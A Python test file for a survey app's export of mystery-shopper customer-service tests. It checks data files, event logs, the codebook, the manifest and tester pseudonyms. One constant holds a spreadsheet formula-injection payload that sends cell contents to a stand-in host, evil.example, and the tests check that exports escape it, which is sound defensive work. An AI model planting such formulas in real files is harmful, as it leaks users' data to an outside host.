"""A frozen batch of shadow tests, exported through the same files as every batch: one row
per test with its plan, measures and checklist score, events.csv with every event in the
order it happened, both described in the codebook and listed in the manifest, and the
testers only as the batch's pseudonyms.

The tests are made as testers make them: planned, logged through `shadow.events.log`
(one queue sent backwards, as an offline phone may), submitted through
`shadow.submission.submit`, approved, frozen, then exported by `files.files_of`, as the
batch page and `flask fieldwork export write` do; every assertion reads the files back.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlmodel import Session, col, select

from fieldwork import clock, parallel
from fieldwork.accounts.models import StaffUser
from fieldwork.definitions.service import Versions
from fieldwork.exports import files, service
from fieldwork.exports.models import Batch
from fieldwork.questionnaire.model import Questionnaire
from fieldwork.questionnaire.shadow import ShadowDefinition
from fieldwork.responses.entry import Storing
from fieldwork.responses.filters import Filter
from fieldwork.responses.models import APPROVED, Response
from fieldwork.shadow import events, submission
from fieldwork.shadow.models import TYPED, ShadowEvent, ShadowTest
from tests.shadow.plans import START, person, tap

STORING = Storing(current=None, fallback_segment="young")
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
CHAT_ANSWERS = {"polite": "yes", "no_buck": "yes", "policy": "yes", "polite_note": HYPERLINK}
RETURN_ANSWERS = {"polite": "yes", "no_buck": "no", "policy": "yes"}
HOUR = 3600


def raw(answers: dict[str, str]) -> dict[str, dict[str, list[str]]]:
    """Answers as the checklist page's fields give them."""
    return {code: {"": [value]} for code, value in answers.items()}


def sent(
    session: Session,
    covert: ShadowDefinition,
    test: ShadowTest,
    queue: list[dict[str, Any]],
    *,
    at: dt.datetime,
    typed: bool = False,
) -> events.Logged:
    with clock.set_to(at):
        incoming = [events.read(e, TYPED) if typed else events.read(e) for e in queue]
        logged = events.log(session, test, covert, incoming)
    assert not logged.refused, logged.refused
    return logged


@pytest.fixture
def chat(
    session: Session,
    covert: ShadowDefinition,
    checklist: Questionnaire,
    planned: Callable[..., ShadowTest],
) -> ShadowTest:
    """tester.li's chat with Taobao about a complaint: a slow bot, a transfer that held, the
    problem solved. The phone sent its queue newest first after being offline; a tap on
    "bot repeated itself" was undone; the bot's reply carries a note that is a formula."""
    test = planned(planned_on=dt.date(2026, 11, 3))
    queue = [
        tap("contacted", 0, 1),
        tap("bot_replied", 45, 2, note=HYPERLINK),
        tap("bot_repeated", 50, 3),
        tap("transferred", 60, 4),
        tap("human_replied", 75.5, 5),
        tap("problem_solved", 200, 6),
        tap("contact_ended", 210, 7),
    ]
    sent(session, covert, test, list(reversed(queue)), at=START + dt.timedelta(hours=1))
    with clock.set_to(START + dt.timedelta(hours=1)):
        events.log(session, test, covert, [], undo=[queue[2]["id"]])
    stored = submission.submit(session, test, checklist, raw(CHAT_ANSWERS), "zh-Hans", STORING)
    assert stored.issues == [] and stored.stored is not None
    return test


@pytest.fixture
def return_case(
    session: Session,
    covert: ShadowDefinition,
    checklist: Questionnaire,
    planned: Callable[..., ShadowTest],
) -> ShadowTest:
    """tester.chen's return with JD over the hotline, over two days: the call dropped before
    anyone answered, the pickup came after 30 hours, the refund 10 hours later; the last two
    events typed in afterwards. "No" on the critical item caps the checklist."""
    test = planned(
        tester="tester.chen",
        platform="jd",
        channel="phone_hotline",
        scenario="return_request",
        slot="weekday_evening",
        spans_days=True,
    )
    first = [tap("return_requested", 0, 1), tap("contacted", 10, 2), tap("line_dropped", 20, 3)]
    sent(session, covert, test, first, at=START + dt.timedelta(minutes=5))
    later = [tap("picked_up", 30 * HOUR, 4), tap("refunded", 40 * HOUR, 5)]
    sent(session, covert, test, later, at=START + dt.timedelta(days=2), typed=True)
    stored = submission.submit(session, test, checklist, raw(RETURN_ANSWERS), "en", STORING)
    assert stored.issues == [] and stored.stored is not None
    return test


@pytest.fixture
def exported(
    session: Session,
    checklist: Questionnaire,
    planned: Callable[..., ShadowTest],
    chat: ShadowTest,
    return_case: ShadowTest,
    tmp_path: Path,
) -> dict[str, Path]:
    """Both tests approved and a third, without events, left pending, frozen into one batch
    and exported."""
    approved = [submission.submission_id(t.id or 0) for t in (chat, return_case)]
    submission.submit(session, planned(), checklist, raw(RETURN_ANSWERS), "en", STORING)
    session.execute(
        update(Response).where(col(Response.submission_id).in_(approved)).values(status=APPROVED)
    )
    session.commit()
    admin = person(session, "admin.wang")
    batch = service.freeze(session, "暗访 11 月", Filter(questionnaire_id="covert"), "r1", admin)
    return files.files_of(session, batch, tmp_path / "exports", versions=Versions())


def table(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text("utf-8"), newline="")))


def rows_by_test(path: Path) -> dict[str, dict[str, str]]:
    return {row["test"]: row for row in table(path)}


def test_each_test_is_one_row_with_its_plan_measures_and_score(
    exported: dict[str, Path], chat: ShadowTest, return_case: ShadowTest
) -> None:
    rows = rows_by_test(exported["data.csv"])
    assert set(rows) == {str(chat.id), str(return_case.id)}
    mine = rows[str(chat.id)]
    plan = ("mode", "platform", "channel", "scenario", "slot", "planned_on", "spans_days")
    assert [mine[name] for name in plan] == [
        "shadow",
        "taobao",
        "in_app_chat",
        "complaint",
        "weekday_evening",
        "2026-11-03",
        "0",
    ]
    assert mine["contact_seconds"] == "210.0"
    # 45 s to the bot's first reply fails the 30 s threshold; the undone repeat is not counted.
    assert (mine["first_reply_value"], mine["first_reply_pass"]) == ("45.0", "0")
    assert (mine["bot_repetitions_value"], mine["bot_repetitions_pass"]) == ("0", "1")
    assert [mine[f"transfer_held_{part}"] for part in ("value", "of", "pass")] == ["1", "1", "1"]
    assert mine["first_contact_resolution_pass"] == "1"
    assert (mine["checklist_score"], mine["checklist_capped"]) == ("100.0", "0")
    assert (mine["polite"], mine["polite_note"]) == ("yes", "'" + HYPERLINK)


def test_an_indicator_a_test_is_not_measured_by_holds_its_code_and_a_case_over_days_its_own(
    exported: dict[str, Path], chat: ShadowTest, return_case: ShadowTest
) -> None:
    rows = rows_by_test(exported["data.csv"])
    chat_row, case = rows[str(chat.id)], rows[str(return_case.id)]
    # A chat is not measured by the hotline's connection, nor a complaint by a pickup.
    for name in ("phone_connected_value", "phone_connected_of", "phone_connected_pass"):
        assert chat_row[name] == "-92"
    assert (chat_row["pickup_within_24h_value"], chat_row["pickup_within_24h_pass"]) == (
        "-92",
        "-92",
    )
    # The hotline dropped before any reply; the pickup took 30 h, the refund 10 h more.
    assert (case["spans_days"], case["planned_on"]) == ("1", "")
    assert [case[f"phone_connected_{part}"] for part in ("value", "of", "pass")] == ["0", "1", "0"]
    assert (case["first_reply_value"], case["first_reply_pass"]) == ("-92", "-92")
    assert (case["pickup_within_24h_value"], case["pickup_within_24h_pass"]) == ("108000.0", "0")
    assert (case["refund_within_72h_value"], case["refund_within_72h_pass"]) == ("36000.0", "1")
    assert case["first_contact_resolution_value"] == "0"
    # No on the critical item: 2.5 of 4.5 points is 55.6, capped at 50.
    assert (case["checklist_score"], case["checklist_capped"]) == ("50.0", "1")
    assert case["contact_seconds"] == str(40.0 * HOUR)


def test_events_are_listed_in_the_order_they_happened_with_their_offsets(
    exported: dict[str, Path], session: Session, chat: ShadowTest, return_case: ShadowTest
) -> None:
    found = table(exported["events.csv"])
    assert list(found[0]) == [
        "response_id",
        "test",
        "sequence",
        "code",
        "device_at",
        "received_at",
        "offset_seconds",
        "entered",
        "note",
    ]
    mine = [row for row in found if row["test"] == str(chat.id)]
    # Sent newest first, one undone: still 1..6 in the order they happened.
    assert [(r["sequence"], r["code"], r["offset_seconds"]) for r in mine] == [
        ("1", "contacted", "0.0"),
        ("2", "bot_replied", "45.0"),
        ("3", "transferred", "60.0"),
        ("4", "human_replied", "75.5"),
        ("5", "problem_solved", "200.0"),
        ("6", "contact_ended", "210.0"),
    ]
    assert mine[0]["device_at"] == "2026-11-03T11:30:00Z"  # 19:30 in China
    assert {r["received_at"] for r in mine} == {"2026-11-03T12:30:00Z"}
    assert mine[1]["note"] == "'" + HYPERLINK
    assert {r["entered"] for r in mine} == {"tap"}
    case = [row for row in found if row["test"] == str(return_case.id)]
    assert [(r["code"], r["offset_seconds"], r["entered"]) for r in case] == [
        ("return_requested", "0.0", "tap"),
        ("contacted", "10.0", "tap"),
        ("line_dropped", "20.0", "tap"),
        ("picked_up", "108000.0", "typed"),
        ("refunded", "144000.0", "typed"),
    ]
    response_ids = {r["test"]: r["response_id"] for r in table(exported["data.csv"])}
    assert {r["response_id"] for r in case} == {response_ids[str(return_case.id)]}


def test_no_tester_username_staff_id_or_device_event_id_leaves_in_any_file(
    exported: dict[str, Path], session: Session, chat: ShadowTest, return_case: ShadowTest
) -> None:
    rows = rows_by_test(exported["data.csv"])
    # Staff ids ascend as they were created: tester.li before tester.chen.
    assert (rows[str(chat.id)]["tester"], rows[str(return_case.id)]["tester"]) == ("S01", "S02")
    usernames = list(session.exec(select(StaffUser.username)))
    event_ids = list(session.exec(select(ShadowEvent.event_id)))
    assert len(usernames) == 4 and len(event_ids) == 12
    texts = "\n".join(all_text(exported))
    for secret in [*usernames, *event_ids]:
        assert secret not in texts, secret
    names = list(rows[str(chat.id)])
    assert not set(names) & {"tester_id", "entered_by", "event_id", "evidence"}
    # No column holds the testers' staff ids instead.
    ids = (str(chat.tester_id), str(return_case.tester_id))
    assert [n for n in names if (rows[str(chat.id)][n], rows[str(return_case.id)][n]) == ids] == []


def all_text(exported: dict[str, Path]) -> Iterator[str]:
    """Every text of every file, the zip's members and spreadsheets' cells included."""
    for name, path in exported.items():
        if name.endswith((".csv", ".json")):
            yield path.read_text("utf-8")
        elif name.endswith(".xlsx"):
            for sheet in load_workbook(path, read_only=True).worksheets:
                for row in sheet.iter_rows(values_only=True):
                    yield "\t".join(str(cell) for cell in row if cell is not None)
        elif name.endswith(".parquet"):
            yield json.dumps(pq.read_table(path).to_pylist(), default=str, ensure_ascii=False)
        else:
            with zipfile.ZipFile(path) as archive:
                yield " ".join(archive.namelist())


def test_parquet_and_xlsx_hold_the_same_measures_typed(
    exported: dict[str, Path], chat: ShadowTest
) -> None:
    parquet = {row["test"]: row for row in pq.read_table(exported["data.parquet"]).to_pylist()}
    mine = parquet[str(chat.id)]
    assert (mine["first_reply_value"], mine["first_reply_pass"]) == (45.0, 0)
    assert (mine["phone_connected_pass"], mine["checklist_score"]) == (-92, 100.0)
    assert mine["polite_note"] == HYPERLINK  # programs read Parquet: text kept as typed
    sheet = load_workbook(exported["data.xlsx"], read_only=True)["data"]
    header, *values = [list(row) for row in sheet.iter_rows(values_only=True)]
    by_test = {row[header.index("test")]: dict(zip(header, row, strict=True)) for row in values}
    assert by_test[str(chat.id)]["first_reply_value"] == 45
    assert by_test[str(chat.id)]["polite_note"] == "'" + HYPERLINK


def test_the_codebook_describes_both_files_in_every_language(
    exported: dict[str, Path], covert: ShadowDefinition
) -> None:
    rows = table(exported["codebook.csv"])
    assert list(rows[0])[:3] == ["file", "variable", "question"]
    by_name = {(row["file"], row["variable"]): row for row in rows}
    value = by_name["data", "first_reply_value"]
    assert (value["type"], value["storage"], value["dimension"]) == (
        "measure",
        "number",
        "response",
    )
    assert value["text_zh-Hans"] == "首次响应 ≤ 30 秒：从起始事件到结束事件的秒数"
    assert value["text_zh-Hant"].startswith("首次回應 ≤ 30 秒：")
    assert value["text_en"].startswith("First reply ≤ 30 s: ")
    assert (value["unit_en"], value["unit_zh-Hans"], value["threshold"]) == (
        "seconds",
        "秒",
        "<= 30",
    )
    assert (value["not_measured"], value["not_reached"]) == ("-92", "-91")
    passed = by_name["data", "first_reply_pass"]
    assert passed["values_en"] == "1 = Meets the threshold\n0 = Does not meet the threshold"
    assert passed["values_zh-Hant"] == "1 = 達標\n0 = 未達標"
    assert by_name["data", "phone_connected_pass"]["rate_at_least"] == "90"
    # Measured on every test: never "not measured".
    assert by_name["data", "bot_repetitions_pass"]["not_measured"] == ""
    score = by_name["data", "checklist_score"]
    assert "50" in score["text_en"] and score["not_applicable"] == "-97"
    assert by_name["data", "tester"]["text_zh-Hans"] == "暗访员（化名，本批次内一致）"
    code = by_name["events", "code"]
    assert code["type"] == "event"
    assert "bot_replied = 机器人回复" in code["values_zh-Hans"].split("\n")
    assert len(code["values_en"].split("\n")) == len(covert.events)
    entered = by_name["events", "entered"]["values_zh-Hant"]
    assert entered.startswith("tap = ") and "\ntyped = " in entered
    assert by_name["events", "offset_seconds"]["unit_zh-Hant"] == "秒"
    meanings = {row["text_en"] for row in rows if row["type"] == "missing_code"}
    assert any(m.startswith("Shadow test: the indicator does not measure") for m in meanings)


def test_the_manifest_lists_both_files_with_their_checksums_and_counts_events(
    exported: dict[str, Path],
) -> None:
    manifest = json.loads(exported["manifest.json"].read_bytes())
    written = [
        "data.csv",
        "data.parquet",
        "data.xlsx",
        "events.csv",
        "codebook.csv",
        "codebook.xlsx",
        "cleaning_log.csv",
    ]
    assert sorted(manifest["files"]) == sorted(written)
    with zipfile.ZipFile(exported["batch.zip"]) as archive:
        assert archive.namelist() == [*written, "manifest.json"]
    held = exported["events.csv"].read_bytes()
    assert manifest["files"]["events.csv"]["sha256"] == hashlib.sha256(held).hexdigest()
    assert manifest["counts"]["events"] == 11
    assert manifest["counts"]["by_segment_mode"] == {"elderly": {"shadow": 2}}
    assert manifest["counts"]["excluded_by_status"] == {"pending": 1}
    assert set(manifest["conventions"]["missing_codes"]) >= {"-91", "-92"}
    assert "events.csv" in manifest["conventions"]["events"]
    with zipfile.ZipFile(exported["batch.zip"]) as archive:
        assert archive.read("events.csv") == held


def test_the_batch_page_lists_events_only_for_a_batch_holding_shadow_tests(
    exported: dict[str, Path], session: Session
) -> None:
    batch = session.exec(select(Batch)).one()
    assert "events.csv" in files.names(batch)
    online = Batch.model_validate({**batch.model_dump(), "modes": ["online"]})
    assert "events.csv" not in files.names(online)


def test_worker_processes_write_the_same_files_as_one_process(
    exported: dict[str, Path],
    session: Session,
    forks: list[bool],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    """A batch large enough is read and made into rows by worker processes: the frozen tests
    they read must give the bytes one process gave."""
    monkeypatch.setattr(parallel, "FROM_ROWS", 0)
    batch = session.exec(select(Batch)).one()
    by_workers = files.files_of(session, batch, tmp_path / "workers", versions=Versions())
    assert forks == [True]
    for name in ("data.csv", "events.csv", "codebook.csv", "cleaning_log.csv"):
        assert by_workers[name].read_bytes() == exported[name].read_bytes(), name
